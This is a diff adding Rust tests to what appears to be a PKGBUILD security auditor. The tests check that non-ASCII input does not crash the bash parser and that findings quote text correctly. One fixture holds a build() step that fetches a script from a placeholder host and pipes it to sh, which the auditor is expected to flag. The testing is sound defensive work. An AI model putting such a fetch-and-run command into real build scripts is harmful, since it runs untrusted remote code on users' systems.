@@ -95,3 +95,49 @@ fn deep_nesting_and_huge_input_stay_bounded() {
     let r = audit(&AuditInput::new(big));
     assert!(r.findings.iter().any(|f| f.id == "AUR-AUDIT-TRUNCATED"));
 }
+
+/// tree-sitter-bash's scanner hands the code point after `{` to C's `isdigit`, which indexes its
+/// table out of bounds for anything past a byte: `echo {` then U+10FFF0 crashed the whole process
+/// with SIGSEGV (found by `arbitrary_text_never_panics` in CI, one run in six). Each of these is
+/// a crash of this test binary if the parser ever sees such a code point again.
+#[test]
+fn a_brace_before_any_code_point_past_ascii_never_crashes_the_parser() {
+    for c in [
+        '\u{80}',
+        '\u{ff}',
+        '\u{100}',
+        '\u{ffff}',
+        '\u{10000}',
+        '\u{10fff0}',
+        '\u{10ffff}',
+    ] {
+        for shape in [
+            "echo {C",
+            "echo {C.1}",
+            "x={C..2}",
+            "f() {C; }",
+            "${C}",
+            "{C",
+        ] {
+            let text = shape.replace('C', &c.to_string());
+            let _ = audit(&AuditInput::new(text.clone()));
+            let _ = audit(&AuditInput::new(format!("{text}\n").repeat(50)));
+        }
+    }
+}
+
+/// What the parser reads is masked to ASCII byte for byte, but findings quote the PKGBUILD as
+/// written, and the line and column of what follows a wide character are still right.
+#[test]
+fn findings_quote_the_text_as_written_around_characters_past_ascii() {
+    let r = audit(&AuditInput::new(
+        "# 🚀 démarrage\nbuild() {\n  curl -s https://exámple.invalid/ǝ.sh | sh\n}\n",
+    ));
+    let f = r
+        .findings
+        .iter()
+        .find(|f| f.snippet.contains("| sh"))
+        .unwrap_or_else(|| panic!("no pipe-to-shell finding: {:#?}", r.findings));
+    assert!(f.snippet.contains("exámple.invalid/ǝ.sh"), "{f:#?}");
+    assert_eq!(f.line, 3, "{f:#?}");
+}
